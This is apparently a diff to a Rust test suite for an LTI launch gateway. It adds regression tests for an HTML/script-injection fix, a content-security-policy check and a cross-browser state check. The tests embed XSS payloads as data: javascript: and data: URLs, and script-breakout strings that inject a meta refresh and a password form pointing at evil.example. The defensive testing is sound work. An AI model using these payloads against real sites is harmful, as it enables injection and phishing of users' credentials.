@@ -218,6 +218,28 @@ crate::both_backends! {
         assert_eq!(r.status(), 400);
     }
 
+    // Issue 17, L3: the return URL is where the gateway's page (or the app) posts the
+    // answer; one that is not https (or loopback http) is refused before anything is shown.
+    async fn a_deep_linking_request_whose_return_url_is_not_https_is_refused(backend) {
+        for app_picks in [false, true] {
+            let env = if app_picks {
+                crate::lti_env::start_app_picks(backend, Personality::Moodle).await
+            } else {
+                start(backend, Personality::Moodle).await
+            };
+            let Some(env) = env else { return };
+            for bad in ["javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>", "http://lms.example.com/return"] {
+                let mut spec = LaunchSpec::deep_linking(CLIENT, DEPLOYMENT, MockUser::instructor("teacher-1"), "course-1", None);
+                spec.message = partner_gateway::sandbox::lms::Message::DeepLinking { return_url: Some(bad.into()), data: None };
+                let (status, body) = env.launch(spec).await.page();
+                assert_eq!(status, 400, "{bad}: {body}");
+                assert!(body.contains("deep_link_return_url"), "{body}");
+                assert!(!body.contains("<form"), "{body}");
+            }
+            assert_eq!(env.usage_count("lti.launch").await, 0);
+        }
+    }
+
     async fn without_configured_items_the_app_answers_a_deep_linking_request(backend) {
         let Some(env) = crate::lti_env::start_app_picks(backend, Personality::Canvas).await else { return };
         let spec = LaunchSpec::deep_linking(CLIENT, DEPLOYMENT, MockUser::instructor("teacher-1"), "course-1", Some("opaque-data-7"));
@@ -338,6 +360,70 @@ crate::both_backends! {
         assert!(body.contains("does not match any launch"), "{body}");
     }
 
+    // Issue 17, M1: lti_storage_target went into the login page's script unescaped, so a
+    // GET link could close the script and put any markup on the gateway's origin.
+    async fn an_lti_storage_target_that_is_not_a_frame_name_is_refused(backend) {
+        let Some(env) = start(backend, Personality::Canvas).await else { return };
+        let payload = "</script><meta http-equiv=refresh content='0;url=https://evil.example/'><form action=https://evil.example/><input name=password></form>";
+        let mut init = env.lms.login_initiation(env.learner_launch("s-inject"));
+        init.post = false;
+        for (k, v) in init.params.iter_mut() {
+            if k == "lti_storage_target" {
+                *v = payload.to_owned();
+            }
+        }
+        let r = env.browser.get(init.get_url()).send().await.unwrap();
+        let status = r.status();
+        let body = r.text().await.unwrap();
+        assert!(!body.contains("<meta http-equiv") && !body.contains("<form action=https://evil"), "{body}");
+        assert_eq!(status, 400, "{body}");
+        assert!(body.contains("lti_storage_target"), "{body}");
+    }
+
+    // Issue 17, M1: the id_token of the no-cookie page broke out of its script the same way.
+    async fn the_no_cookie_page_keeps_a_hostile_id_token_inert(backend) {
+        let Some(env) = start(backend, Personality::Canvas).await else { return };
+        let (auth, _jar) = env.login(env.learner_launch("s-inject-token")).await;
+        let mut fields = env.authenticate(&auth).await;
+        let payload = "</script><script>alert(document.domain)</script>\u{2028}<!--";
+        for (k, v) in fields.iter_mut() {
+            if k == "id_token" {
+                *v = payload.to_owned();
+            }
+        }
+        let (status, _, page) = env.post_launch(&fields, &[]).await;
+        assert_eq!(status, 200, "{page}");
+        assert!(!page.contains("<script>alert"), "{page}");
+        assert!(!page.contains('\u{2028}') && !page.contains("<!--"), "{page}");
+        // The page's one script is fixed and allowed by its hash; the token is data.
+        let csp = {
+            let r = env.browser.post(format!("{}/lti/launch", env.gateway)).form(&fields).send().await.unwrap();
+            r.headers()["content-security-policy"].to_str().unwrap().to_owned()
+        };
+        assert!(csp.contains("script-src 'sha256-") && !csp.contains("unsafe-inline"), "{csp}");
+        assert!(csp.contains("form-action 'self'") && csp.contains("base-uri 'none'"), "{csp}");
+        let data: Value = serde_json::from_str(&data_block(&page)).unwrap();
+        assert_eq!(data["id_token"], payload);
+    }
+
+    async fn a_launch_from_another_browser_leaves_the_state_to_the_right_one(backend) {
+        let Some(env) = start(backend, Personality::Moodle).await else { return };
+        let (auth, jar) = env.login(env.learner_launch("s-wrong-first")).await;
+        let fields = env.authenticate(&auth).await;
+        let forged: Vec<String> = jar.iter().map(|c| format!("{}=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", c.split('=').next().unwrap())).collect();
+        let (status, _, body) = env.post_launch(&fields, &forged).await;
+        assert_eq!(status, 400);
+        assert!(body.contains("another browser"), "{body}");
+        let mut with_storage = fields.clone();
+        with_storage.push(("lti_storage_binding".into(), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".into()));
+        let (status, _, body) = env.post_launch(&with_storage, &[]).await;
+        assert_eq!(status, 400);
+        assert!(body.contains("another browser"), "{body}");
+        let (s, l, b) = env.post_launch(&fields, &jar).await;
+        let code = LtiEnv::outcome(s, l, b).code();
+        assert_eq!(env.exchange(&code).await.0, 200);
+    }
+
     async fn a_blocked_cookie_never_ends_in_a_bare_error(backend) {
         let Some(env) = start(backend, Personality::Moodle).await else { return };
         let (auth, _jar) = env.login(env.learner_launch("s-nocookie")).await;
@@ -432,18 +518,25 @@ crate::both_backends! {
     }
 }
 
-/// The page's inline script (the gateway's pages have one).
+/// The page's script: the gateway's pages run one fixed script, with no attributes.
 fn inline_script(html: &str) -> String {
-    let start = html
-        .find("<script nonce=")
-        .and_then(|i| html[i..].find('>').map(|j| i + j + 1))
-        .unwrap();
+    let start = html.find("<script>").unwrap() + "<script>".len();
     let end = start + html[start..].find("</script>").unwrap();
     html[start..end].to_owned()
 }
 
-/// Run a page script in `tests/js/platform_storage.js` (node) against a simulated LMS frame.
-fn run_in_frame(script: &str, origin: &str, store: &Value, wrong_origin_first: bool) -> Value {
+/// The text of the page's JSON data block (what the fixed script reads).
+fn data_block(html: &str) -> String {
+    let marker = "<script type=\"application/json\" id=\"pgw-data\">";
+    let start = html.find(marker).unwrap() + marker.len();
+    let end = start + html[start..].find("</script>").unwrap();
+    html[start..end].to_owned()
+}
+
+/// Run a page's script in `tests/js/platform_storage.js` (node) against a simulated LMS
+/// frame, with the page's data block.
+fn run_in_frame(page: &str, origin: &str, store: &Value, wrong_origin_first: bool) -> Value {
+    let (script, data) = (inline_script(page), data_block(page));
     use std::io::Write;
     let mut child = std::process::Command::new("node")
         .arg(concat!(
@@ -454,7 +547,7 @@ fn run_in_frame(script: &str, origin: &str, store: &Value, wrong_origin_first: b
         .stdout(std::process::Stdio::piped())
         .spawn()
         .expect("node (Node.js) runs the page scripts; install it (Debian: nodejs)");
-    let input = json!({"script": script, "origin": origin, "store": store, "wrongOriginFirst": wrong_origin_first});
+    let input = json!({"script": script, "data": data, "origin": origin, "store": store, "wrongOriginFirst": wrong_origin_first});
     child
         .stdin
         .take()
@@ -485,7 +578,7 @@ crate::both_backends! {
         assert_eq!(r.status(), 200);
         let page = r.text().await.unwrap();
         let origin = url::Url::parse(&env.lms.auth_url()).unwrap().origin().ascii_serialization();
-        let login = run_in_frame(&inline_script(&page), &origin, &json!({}), true);
+        let login = run_in_frame(&page, &origin, &json!({}), true);
         let put = &login["posted"][0];
         assert_eq!(put["targetOrigin"], origin.as_str(), "messages go to the platform's origin only");
         assert_eq!(put["msg"]["subject"], "lti.put_data");
@@ -495,7 +588,12 @@ crate::both_backends! {
         let fields = env.authenticate(&auth_url).await;
         let (status, _, page) = env.post_launch(&fields, &[]).await;
         assert_eq!(status, 200, "{page}");
-        let recovered = run_in_frame(&inline_script(&page), &origin, &login["store"], true);
+        // A platform that kept nothing: no re-post; the page shows its way out instead.
+        let empty = run_in_frame(&page, &origin, &json!({}), false);
+        assert!(empty["submitted"].is_null(), "{empty}");
+        assert_eq!(empty["shown"]["r"]["hidden"], false, "{empty}");
+        assert!(page.contains("id=\"r\" hidden href=\"") && page.contains("/lti/login?"), "{page}");
+        let recovered = run_in_frame(&page, &origin, &login["store"], true);
         let form = recovered["submitted"].as_object().expect("the page re-posts the launch with the stored value");
         assert_eq!(form["action"], format!("{}/lti/launch", env.gateway));
         let fields: Vec<(String, String)> = form["fields"].as_array().unwrap().iter()
